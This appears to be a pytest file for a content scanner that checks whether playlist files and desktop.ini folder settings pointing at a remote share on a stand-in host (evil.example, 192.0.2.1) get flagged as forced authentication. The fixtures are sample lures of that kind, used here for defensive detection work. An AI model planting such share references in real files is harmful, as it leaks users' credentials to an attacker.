"""Playlists and settings of folders that lead to another machine's share."""

from __future__ import annotations

import pytest

from contentfilter.content.scan import scan_document

ASX = '<asx version="3.0"><entry><ref href="%s"/></entry></asx>'
FOLDER = "[.ShellClassInfo]\r\n%s\r\n"


def found(data: str, name: str, charset: str = "utf-8") -> set[str]:
    result = scan_document(name, data.encode(charset))
    assert result.unscanned == ()
    return {finding.name for finding in result.findings}


@pytest.mark.parametrize("charset", ["utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize(
    ("data", "name"),
    [
        ("#EXTM3U\n#EXTINF:1,x\n\\\\192.0.2.1\\a\\b.mp3\n", "a.m3u"),
        ("\\\\192.0.2.1\\a\\b.wax", "a.wax"),
        ("[playlist]\r\nFile1=file://evil.example/a.mp3\r\n", "a.pls"),
        (ASX % "file://evil.example/a/b.wma", "a.asx"),
        (ASX % "//evil.example/a/b", "a.wvx"),
        (ASX % "file:&#47;&#47;evil.example/a/b", "a.asx"),
        (FOLDER % "IconResource=\\\\192.0.2.1\\a,0", "desktop.ini"),
        (FOLDER % "LocalizedResourceName=@\\\\192.0.2.1\\a.dll,-1", "Desktop.ini"),
    ],
)
def test_what_asks_a_share(data: str, name: str, charset: str):
    assert found(data, name, charset) == {"forced-authentication"}
    assert found(data, "a.txt", charset) == set()


@pytest.mark.parametrize(
    ("data", "name"),
    [
        ("#EXTM3U\nhttps://radio.example/live.mp3\nC:\\Music\\a.mp3\n..\\b.mp3\n", "a.m3u"),
        (ASX % "https://radio.example/live", "a.asx"),
        (ASX % "file:///C:/Music/a.mp3", "a.asx"),
        (FOLDER % "IconResource=%SystemRoot%\\system32\\shell32.dll,3", "desktop.ini"),
        (FOLDER % "InfoTip=\\\\ is how paths begin", "desktop.ini"),
    ],
)
def test_what_asks_nobody_or_another_way(data: str, name: str):
    assert found(data, name) == set()
